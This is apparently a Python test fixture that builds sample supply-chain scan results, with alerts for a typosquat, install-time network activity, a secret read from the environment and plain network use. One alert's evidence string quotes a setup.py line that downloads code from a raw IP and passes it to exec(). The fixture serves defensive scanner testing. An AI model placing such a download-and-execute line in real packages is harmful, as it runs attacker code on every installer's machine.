"""Scan results shared by the renderer tests."""

from __future__ import annotations

from bot.model import (
    Action,
    Alert,
    AlertType,
    ChangeKind,
    Location,
    PackageResult,
    ScanResult,
    Severity,
    Verdict,
    canonicalize_name,
)


def alert(
    package: str,
    version: str,
    alert_type: AlertType,
    action: Action,
    message: str,
    *,
    file: str | None = None,
    line: int | None = None,
    evidence: str = "",
    severity: Severity = Severity.HIGH,
) -> Alert:
    return Alert(
        type=alert_type,
        severity=severity,
        action=action,
        message=message,
        package=canonicalize_name(package),
        version=version,
        file=file,
        line=line,
        evidence=evidence,
        artifact=f"{package}-{version}.tar.gz",
    )


def realistic_result() -> ScanResult:
    fastjsonx = PackageResult(
        name=canonicalize_name("fastjsonx"),
        change=ChangeKind.ADDED,
        old_version=None,
        new_version="1.0.2",
        alerts=(
            alert(
                "fastjsonx",
                "1.0.2",
                AlertType.TYPOSQUAT,
                Action.BLOCK,
                "The name imitates fastjsonschema, a popular project.",
            ),
            alert(
                "fastjsonx",
                "1.0.2",
                AlertType.INSTALL_NETWORK,
                Action.BLOCK,
                "Installing this package downloads and runs code from a raw IP address.",
                file="setup.py",
                line=14,
                evidence="data = urllib.request.urlopen('http://203.0.113.7/i.py').read()\n"
                "exec(data)",
            ),
        ),
        locations=(Location(path="requirements.txt", line=7),),
    )
    requests = PackageResult(
        name=canonicalize_name("requests"),
        change=ChangeKind.UPGRADED,
        old_version="2.31.0",
        new_version="2.32.3",
        locations=(Location(path="requirements.txt", line=3),),
    )
    tqdm = PackageResult(
        name=canonicalize_name("tqdm"),
        change=ChangeKind.UPGRADED,
        old_version="4.66.1",
        new_version="4.66.4",
        alerts=(
            alert(
                "tqdm",
                "4.66.4",
                AlertType.ENV_SECRETS,
                Action.WARN,
                "Reads SLACK_TOKEN from the environment; 4.66.1 did not.",
                file="tqdm/contrib/slack.py",
                line=41,
                evidence='token = os.environ["SLACK_TOKEN"]',
            ),
            alert(
                "tqdm",
                "4.66.4",
                AlertType.FRESH_RELEASE,
                Action.MONITOR,
                "Published 2 days ago.",
            ),
        ),
        locations=(Location(path="requirements.txt", line=9),),
    )
    httpcore = PackageResult(
        name=canonicalize_name("httpcore"),
        change=ChangeKind.ADDED,
        old_version=None,
        new_version="1.0.5",
        via=(canonicalize_name("httpx"),),
        alerts=(
            alert(
                "httpcore",
                "1.0.5",
                AlertType.NETWORK,
                Action.WARN,
                "Opens network connections.",
                file="httpcore/_backends/sync.py",
                line=12,
                evidence="sock = socket.create_connection(address, timeout)",
            ),
        ),
        locations=(Location(path="requirements.txt", line=5),),
        incomplete_reasons=("the wheel is over the 50 MB download limit",),
    )
    return ScanResult(
        packages=(fastjsonx, requests, tqdm, httpcore),
        manifests=("requirements.txt",),
        verdict=Verdict.BLOCK,
        duration_seconds=2.43,
        errors=("advisory database unreachable: timed out after 10 s",),
    )
